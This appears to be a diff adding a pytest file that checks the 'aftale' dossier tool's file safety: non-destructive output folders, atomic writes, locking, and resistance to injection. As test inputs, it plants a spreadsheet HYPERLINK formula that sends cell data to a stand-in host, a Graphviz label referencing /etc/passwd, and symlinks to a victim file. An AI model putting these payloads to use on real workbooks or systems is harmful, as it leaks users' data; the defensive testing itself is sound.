@@ -1,0 +1,267 @@
+"""Nothing lost (issue 10): output folders that never destroy, one atomic writer, a lock for every change,
+edits that touch only what they mean to, and no injection into workbooks, Graphviz or XML."""
+
+from __future__ import annotations
+
+import json
+import os
+import resource
+import stat
+import subprocess
+import sys
+import zipfile
+from pathlib import Path
+from xml.etree import ElementTree
+
+import pytest
+
+from checker.files import output_folder, write_file
+from checker.findings import CouldNotRun
+from tests.conftest import load
+
+AFTALE = Path(sys.executable).with_name("aftale")
+
+
+# --- output folders ----------------------------------------------------------------------------------------
+
+
+def test_build_never_replaces_a_folder_it_did_not_make(run, viborg, tmp_path):
+    mine = tmp_path / "mine"
+    mine.mkdir()
+    (mine / "vigtig.txt").write_text("min egen fil", encoding="utf-8")
+    code, _, err = run("build", viborg, "--out", mine, "--no-pdf")
+    assert code == 2
+    assert "--out " + str(mine) + ": mappen findes og er ikke en tidligere bygning fra aftale" in err
+    assert [p.name for p in mine.iterdir()] == ["vigtig.txt"]
+    assert (mine / "vigtig.txt").read_text(encoding="utf-8") == "min egen fil"
+
+
+@pytest.mark.parametrize(
+    ("where", "message"),
+    [
+        (lambda d, t: d, "mappen er dossieret eller ligger inde i det"),
+        (lambda d, t: d / "generated", "mappen er dossieret eller ligger inde i det"),
+        (lambda d, t: d.parent, "mappen indeholder dossieret"),
+        (lambda d, t: Path("/"), "mappen indeholder dossieret"),
+    ],
+    ids=["the-dossier", "inside-the-dossier", "its-parent", "the-root"],
+)
+def test_build_refuses_the_dossier_and_its_parents(run, viborg, tmp_path, where, message):
+    before = sorted(p.name for p in viborg.iterdir())
+    code, _, err = run("build", viborg, "--out", where(viborg, tmp_path), "--no-pdf")
+    assert code == 2 and message in err and "Intet er skrevet." in err
+    assert sorted(p.name for p in viborg.iterdir()) == before
+
+
+def test_build_dot_inside_the_dossier_is_refused(viborg, monkeypatch):
+    monkeypatch.chdir(viborg)
+    with pytest.raises(CouldNotRun) as exc:
+        output_folder(Path("generated") / "viborg", dossier=Path("."))
+    assert "inde i det" in exc.value.text.da
+
+
+def test_build_replaces_its_own_earlier_output_and_an_empty_folder(run, viborg, tmp_path):
+    out = tmp_path / "ud"
+    out.mkdir()
+    assert run("build", viborg, "--out", out, "--no-pdf")[0] == 0
+    first = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
+    assert first["kind"] == "build" and first["tool"]["name"] == "aftale"
+    (out / "samarbejdsaftale.docx").write_bytes(b"old")
+    assert run("build", viborg, "--out", out, "--no-pdf")[0] == 0
+    assert (out / "samarbejdsaftale.docx").read_bytes() != b"old"
+
+
+# --- the one writer ----------------------------------------------------------------------------------------
+
+
+def test_write_file_keeps_the_mode_of_a_replaced_file_and_follows_the_umask(tmp_path):
+    kept = tmp_path / "kept.json"
+    kept.write_text("{}", encoding="utf-8")
+    kept.chmod(0o664)
+    write_file(kept, "{ }")
+    assert stat.S_IMODE(kept.stat().st_mode) == 0o664 and kept.read_text(encoding="utf-8") == "{ }"
+    old = os.umask(0o027)
+    try:
+        write_file(tmp_path / "new.txt", "x")
+    finally:
+        os.umask(old)
+    assert stat.S_IMODE((tmp_path / "new.txt").stat().st_mode) == 0o640
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["kept.json", "new.txt"]
+
+
+def test_write_file_never_writes_through_a_planted_symlink(tmp_path):
+    victim = tmp_path / "victim.txt"
+    victim.write_text("urørt", encoding="utf-8")
+    out = tmp_path / "rapport.txt"
+    for name in (".rapport.txt.tmp", ".rapport.txt.", out.name):  # where a fixed temp name would have been
+        (tmp_path / name).symlink_to(victim)
+    write_file(out, "rapport")
+    assert victim.read_text(encoding="utf-8") == "urørt"
+    assert out.read_text(encoding="utf-8") == "rapport" and not out.is_symlink()
+
+
+def test_a_write_that_fails_half_way_leaves_the_old_file_and_no_temporary_file(tmp_path):
+    """A file size limit makes the write fail as a full disk would (EFBIG instead of ENOSPC)."""
+    target = tmp_path / "rapport.txt"
+    target.write_text("forrige", encoding="utf-8")
+    script = (
+        "import resource, sys\n"
+        "from checker.files import write_file\n"
+        "from checker.findings import CouldNotRun\n"
+        "resource.setrlimit(resource.RLIMIT_FSIZE, (1000, 1000))\n"
+        "try:\n"
+        f"    write_file({str(target)!r}, 'x' * 100000)\n"
+        "except CouldNotRun as exc:\n"
+        "    print(exc.text.da)\n"
+        "    sys.exit(2)\n"
+    )
+    import signal
+
+    proc = subprocess.run(
+        [sys.executable, "-c", script],
+        capture_output=True,
+        text=True,
+        timeout=60,
+        preexec_fn=lambda: signal.signal(signal.SIGXFSZ, signal.SIG_IGN),
+    )
+    assert proc.returncode == 2, proc.stderr
+    assert "Kan ikke skrive" in proc.stdout and "Den tidligere fil er uændret." in proc.stdout
+    assert target.read_text(encoding="utf-8") == "forrige"
+    assert [p.name for p in tmp_path.iterdir()] == ["rapport.txt"]
+    assert resource.getrlimit(resource.RLIMIT_FSIZE)  # the limit was the child's only
+
+
+def test_audit_pdf_output_does_not_touch_a_docx_beside_it(run, viborg, tmp_path):
+    other = tmp_path / "rapport.docx"
+    other.write_bytes(b"en anden fil")
+    code, _, err = run(
+        "audit", viborg, "--as-of", "2020-06-30", "--format", "pdf", "--output", tmp_path / "rapport.pdf"
+    )
+    assert code in (0, 1), err
+    assert (tmp_path / "rapport.pdf").read_bytes().startswith(b"%PDF")
+    assert other.read_bytes() == b"en anden fil"
+    assert sorted(p.name for p in tmp_path.iterdir() if p.name != "viborg") == ["rapport.docx", "rapport.pdf"]
+
+
+# --- the lock, and edits that touch only what they mean to ---------------------------------------------------
+
+
+def test_sign_record_changes_only_the_signature_block(viborg):
+    path = viborg / "samarbejdsaftale.json"
+    text = path.read_text(encoding="utf-8")
+    planted = text.replace('"Egeparken": 26.8', '"Egeparken": 26.80000000000000000001', 1)
+    assert planted != text
+    path.write_text(planted, encoding="utf-8")
+    path.chmod(0o664)
+    proc = subprocess.run(
+        [
+            AFTALE,
+            "sign",
+            viborg,
+            "--record",
+            "--party",
+            "viborg-kommune",
+            "--name",
+            "Ulla Åkjær",
+            "--date",
+            "2017-03-20",
+        ],
+        capture_output=True,
+        text=True,
+        timeout=60,
+    )
+    assert proc.returncode == 0, proc.stderr
+    after = path.read_text(encoding="utf-8")
+    assert "26.80000000000000000001" in after  # a number nobody touched keeps its spelling
+    assert stat.S_IMODE(path.stat().st_mode) == 0o664
+    old_lines, new_lines = planted.splitlines(), after.splitlines()
+    changed = [line for line in new_lines if line not in old_lines]
+    assert changed == [
+        '      "part": "Viborg Kommune",',
+        '      "dato": "2017-03-20",',
+        '      "navn": "Ulla Åkjær",',
+        '      "metode": "wet-ink"',
+    ]
+
+
+def test_two_records_at_once_are_both_kept(viborg):
+    procs = [
+        subprocess.Popen(
+            [AFTALE, "sign", viborg, "--record", "--party", party, "--name", name, "--date", "2017-03-20"],
+            stdout=subprocess.PIPE,
+            stderr=subprocess.PIPE,
+        )
+        for party, name in (
+            ("viborg-kommune", "Ulla Åkjær"),
+            ("bjerringbro-andelsboligforening", "Søren Øster"),
+        )
+    ]
+    for proc in procs:
+        assert proc.wait(timeout=60) == 0, proc.stderr.read()
+    blocks = {b["part"]: b.get("navn") for b in load(viborg / "samarbejdsaftale.json")["underskrifter"]}
+    assert (
+        blocks["Viborg Kommune"] == "Ulla Åkjær"
+        and blocks["Bjerringbro Andelsboligforening"] == "Søren Øster"
+    )
+    assert not [p.name for p in viborg.iterdir() if p.name.endswith(".tmp")]
+
+
+def test_a_held_lock_makes_a_second_writer_give_up_with_a_message(viborg):
+    from checker.files import dossier_lock
+
+    with dossier_lock(viborg):
+        with pytest.raises(CouldNotRun) as exc:
+            with dossier_lock(viborg, wait=0.3):
+                pass
+    assert "ændres af en anden kørsel af aftale" in exc.value.text.da
+
+
+# --- no injection ------------------------------------------------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"Klik")'
+
+
+def test_dossier_text_never_becomes_a_formula_in_generated_workbooks(run, viborg, tmp_path):
+    import openpyxl
+
+    data = load(viborg / "samarbejdsaftale.json")
+    data["indsatsomraader"]["omraader"][0]["succeskriterier"][0]["titel"] = FORMULA
+    (viborg / "samarbejdsaftale.json").write_text(
+        json.dumps(data, ensure_ascii=False, indent=2), encoding="utf-8"
+    )
+    assert run("followup", "template", viborg, "--out", tmp_path / "skabelon.xlsx")[0] == 0
+    run("audit", viborg, "--as-of", "2020-06-30", "--format", "xlsx", "--output", tmp_path / "revision.xlsx")
+    for book in ("skabelon.xlsx", "revision.xlsx"):
+        with zipfile.ZipFile(tmp_path / book) as z:
+            sheets = "".join(
+                z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/")
+            )
+        assert "<f>" not in sheets, book  # no formula anywhere
+        wb = openpyxl.load_workbook(tmp_path / book)
+        found = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value == FORMULA]
+        assert found and all(c.data_type == "s" for c in found), book
+
+
+def test_a_name_in_angle_brackets_is_text_to_graphviz(tmp_path):
+    from checker.assemble.orgchart import dot_source, draw
+    from tests.conftest import VIBORG
+
+    aftale = load(VIBORG / "samarbejdsaftale.json")
+    aftale["organisering"]["organer"][0]["navn"] = '<IMG SRC="/etc/passwd"/>'
+    aftale["sekretariat"]["navn"] = "Sekretariat \\G"
+    source = dot_source(aftale)
+    assert '"<IMG SRC=\\"/etc/passwd\\"/>' in source and "\\\\G" in source
+    png, _pdf = draw(aftale, tmp_path)
+    assert png.read_bytes().startswith(b"\x89PNG")
+
+
+def test_control_characters_keep_the_junit_report_well_formed(run, viborg):
+    data = load(viborg / "samarbejdsaftale.json")
+    data["parter"][0]["navn"] = "Boligselskabet\x07 Viborg\x1b"
+    (viborg / "samarbejdsaftale.json").write_text(
+        json.dumps(data, ensure_ascii=False, indent=2), encoding="utf-8"
+    )
+    code, out, _ = run("check", viborg, "--format", "junit")
+    assert code == 1
+    ElementTree.fromstring(out.encode("utf-8"))  # parses: the characters were replaced
+    assert "\x07" not in out and "\ufffd" in out
